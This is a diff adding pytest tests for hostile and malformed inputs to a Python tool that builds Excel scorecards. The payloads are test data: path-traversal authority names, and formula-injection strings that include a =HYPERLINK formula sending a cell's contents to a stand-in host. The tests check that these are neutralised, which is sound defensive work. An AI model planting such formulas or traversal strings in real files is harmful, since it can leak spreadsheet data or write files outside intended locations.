@@ -7,6 +7,7 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
 from typer.testing import CliRunner
 
 from xlscore.cli import app
@@ -147,3 +148,152 @@ def test_a_failed_save_leaves_no_temporary_file(project):
     assert result.exit_code == 1
     assert "cannot write the workbook" in result.stderr
     assert [p.name for p in (project / "outputs").iterdir()] == [WORKBOOK]
+
+
+# --- hostile and accidental inputs (issue 7) ------------------------------------------
+
+def built(project: Path, *args: str):
+    """Build through the pipeline, as the CLI does, returning (path or None, problems)."""
+    from datetime import date
+
+    from xlscore.pipeline import build
+    from xlscore.problems import InputError, Problems
+
+    problems = Problems()
+    try:
+        made = build(project / "measures.yaml", project / "inputs", project / "outputs",
+                     *(args or (None,)), problems, today=date(2021, 1, 12))
+    except InputError:
+        return None, problems
+    return made, problems
+
+
+def codes(problems) -> list[str]:
+    return [p.code for p in problems.items]
+
+
+def edit(path: Path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def test_a_duplicated_empty_value_column_stops_the_build(project):
+    """Was: 0 warnings and 1 green / 0 amber / 4 red instead of 9 / 2 / 13."""
+    extract = project / "inputs" / "2020-12.csv"
+    lines = extract.read_text(encoding="utf-8").splitlines()
+    extract.write_text("\n".join(f"{line},value" if n == 0 else f"{line}," for n, line in
+                                 enumerate(lines)) + "\n", encoding="utf-8")
+    made, problems = built(project)
+    assert made is None
+    assert codes(problems) == ["table.duplicate-column"]
+    assert problems.errors[0].file.endswith("2020-12.csv") and "B and F" in str(
+        problems.errors[0])
+    assert list((project / "outputs").iterdir()) == []
+
+
+def test_a_duplicated_empty_benchmark_column_stops_the_build(project):
+    path = project / "inputs" / "benchmarks.csv"
+    lines = path.read_text(encoding="utf-8").splitlines()
+    path.write_text("\n".join(f"{line},slough " if n == 0 else f"{line}," for n, line in
+                              enumerate(lines)) + "\n", encoding="utf-8")
+    made, problems = built(project)
+    assert made is None and codes(problems) == ["table.duplicate-column"]
+
+
+def test_a_blank_template_is_not_built_as_the_month(project):
+    assert CliRunner().invoke(app, ["template", "--catalogue", str(project / "measures.yaml"),
+                                    "--inputs", str(project / "inputs")]).exit_code == 0
+    made, problems = built(project)
+    assert made is None and codes(problems) == ["extract.all-blank"]
+    assert problems.errors[0].file.endswith("2021-01.xlsx")
+    made, problems = built(project, "2020-12")  # the filled months still build
+    assert made is not None and not problems.errors
+
+
+def test_a_month_in_the_future_is_built_with_a_warning(project):
+    extract = project / "inputs" / "2020-12.csv"
+    extract.rename(project / "inputs" / "2021-02.csv")
+    made, problems = built(project)
+    assert made is not None and "extract.future-month" in codes(problems)
+
+
+@pytest.mark.parametrize(("authority", "name"), [
+    ("../../other/outputs/slough", "other-outputs-slough-scorecard-2020-12.xlsx"),
+    ("/tmp/elsewhere", "tmp-elsewhere-scorecard-2020-12.xlsx"),
+    ("Bath/North East Somerset", "bath-north-east-somerset-scorecard-2020-12.xlsx"),
+    ("Very Long Borough " * 17, "very-long-borough-very-long-borough-very-long-borough-very-l"
+                                "-scorecard-2020-12.xlsx"),
+])
+def test_the_authority_never_chooses_where_the_workbook_goes(project, authority, name):
+    edit(project / "measures.yaml", "authority: Slough", f'authority: "{authority}"')
+    made, problems = built(project)
+    assert not problems.errors, [str(p) for p in problems.errors]
+    assert [p.name for p in (project / "outputs").iterdir()] == [name]
+    assert made.path == project / "outputs" / name
+
+
+def test_catalogue_text_never_becomes_a_formula_on_any_sheet(project):
+    from openpyxl import load_workbook
+
+    catalogue = project / "measures.yaml"
+    edit(catalogue, "authority: Slough", "authority: '=1+1'")
+    edit(catalogue, "  - name: Front Door", "  - name: '=SUM(1,2)'")
+    hyperlink = '=HYPERLINK("http://example.invalid/?"&H12, "Bexley")'
+    edit(catalogue, "Bexley, Kingston", f"'{hyperlink}', Kingston")
+    benchmarks = project / "inputs" / "benchmarks.csv"
+    edit(benchmarks, "Bexley", '"' + hyperlink.replace('"', '""') + '"')
+    made, problems = built(project)
+    assert not problems.errors, [str(p) for p in problems.errors]
+    book = load_workbook(made.path)
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                texts.append(str(cell.value))
+    assert any(t.startswith("=1+1") for t in texts) and "=SUM(1,2)" in texts
+    assert any(t.startswith("=HYPERLINK") for t in texts)
+
+
+def test_an_ampersand_in_the_authority_prints_in_page_headers(project):
+    from openpyxl import load_workbook
+
+    edit(project / "measures.yaml", "authority: Slough", 'authority: "Brighton & Hove"')
+    made, problems = built(project)
+    assert not problems.errors
+    for sheet in load_workbook(made.path).worksheets:
+        assert "Brighton && Hove" in sheet.oddHeader.center.text, sheet.title
+
+
+def test_a_stray_value_in_the_last_cell_of_an_extract_builds(project):
+    from openpyxl import Workbook
+
+    extract = project / "inputs" / "2020-12.csv"
+    book = Workbook()
+    for line in extract.read_text(encoding="utf-8").splitlines():
+        book.active.append(line.split(",", 4))
+    book.active["XFD1048576"] = "x"
+    book.save(project / "inputs" / "2020-12.xlsx")
+    extract.unlink()
+    made, problems = built(project)
+    assert made is not None and not problems.errors
+
+
+def test_a_list_where_an_id_belongs_is_an_error_in_every_command(project):
+    edit(project / "measures.yaml", "rate_of: contacts", "rate_of: [contacts]")
+    for command in ("build", "check", "measures"):
+        args = [command, "--catalogue", str(project / "measures.yaml")]
+        if command != "measures":
+            args += ["--inputs", str(project / "inputs")]
+        result = CliRunner().invoke(app, args)
+        assert result.exit_code == 1, (command, result.output)
+        assert result.exception is None or isinstance(result.exception, SystemExit)
+        assert "rate_of" in result.stderr
+
+
+def test_a_control_character_in_a_note_names_the_line(project):
+    append(project / "inputs" / "2020-12.csv", "contacts_1_day_pct,,,,first\x1b[31m")
+    made, problems = built(project)
+    assert made is None and "table.control-character" in codes(problems)
+    assert any(p.line == 43 for p in problems.errors)
